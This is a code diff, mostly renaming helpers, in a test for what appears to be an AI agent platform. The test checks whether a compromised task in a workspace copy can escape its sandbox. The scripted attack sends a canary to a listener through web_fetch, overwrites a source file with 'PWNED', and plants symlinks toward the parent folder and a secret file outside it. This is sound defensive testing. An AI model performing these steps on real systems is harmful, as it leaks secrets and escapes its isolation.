@@ -4,7 +4,7 @@ import { linkSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, s
 import { homedir } from "node:os";
 import { dirname, join } from "node:path";
 import type { ToolResultBody } from "../../src/core/ports/runtime.ts";
-import { spawning, strikeTasks, taskStage } from "../unit/delegation/tasks/taskStage.ts";
+import { closeTestTasks, openTestTasks, spawning } from "../unit/delegation/tasks/testTasks.ts";
 import { commitAll, gitIn, treeOf } from "../unit/platform/copies/support.ts";
 import { CANARY } from "./arena.ts";
 import { startListener } from "./listener.ts";
@@ -71,7 +71,7 @@ describe("a compromised task in a copy of the workspace", function () {
 		gitIn(join(home, "workspace"), "stash", "-q");
 	});
 	afterEach(async () => {
-		await strikeTasks();
+		await closeTestTasks();
 		rmSync(home, { recursive: true, force: true });
 	});
 
@@ -84,7 +84,7 @@ describe("a compromised task in a copy of the workspace", function () {
 				{ name: "web_fetch", input: { url: `${url}?${CANARY}` } },
 				{ name: "update_file", input: { path: "src/a.ts", old: "S export", new: "PWNED export" } },
 			];
-			const stage = await taskStage(
+			const setup = await openTestTasks(
 				{
 					caller: [spawning("attack", { type: "quick", isolation: "always" }), { text: "It runs." }, { text: "I see." }],
 					attack: async (_, call) => {
@@ -95,11 +95,11 @@ describe("a compromised task in a copy of the workspace", function () {
 				},
 				{ home, settings: { approval: "auto", sandbox, rules: { deny: [], ask: [], allow: ALLOWED } } },
 			);
-			const { sessions, services, folder } = stage.house;
+			const { sessions, services, folder } = setup.app;
 			const copyOf = async (id: string) => (await services.copies?.find(id))?.folders[0]?.path ?? assert.fail("no copy");
 			/** As commands that somebody has approved could leave them. */
 			async function plantLinks(): Promise<void> {
-				const copy = await copyOf((await stage.tasks())[0]?.sessionId ?? "");
+				const copy = await copyOf((await setup.tasks())[0]?.sessionId ?? "");
 				const links = { real: folder, up: "..", linkfile: join(folder, "src/a.ts"), secret: join(home, "outside/secret.txt") };
 				for (const [name, target] of Object.entries(links)) symlinkSync(target, join(copy, name));
 				symlinkSync(join(folder, "dangling.txt"), join(copy, "dangling"));
@@ -110,13 +110,13 @@ describe("a compromised task in a copy of the workspace", function () {
 				event(id, event) {
 					if (event.type !== "asked") return;
 					asked += 1;
-					stage.clock.ahead += 1_000;
+					setup.clock.ahead += 1_000;
 					void sessions.get(id).then((session) => session.answer(event.request, { allow: false }, "person", event.hash));
 				},
 			});
 			const before = KEPT.map((name) => [...treeOf(join(home, name))]);
-			await stage.caller.send("Go");
-			const { sessionId } = await stage.state("done");
+			await setup.caller.send("Go");
+			const { sessionId } = await setup.state("done");
 			assert.deepEqual(
 				KEPT.map((name) => [...treeOf(join(home, name))]),
 				before,
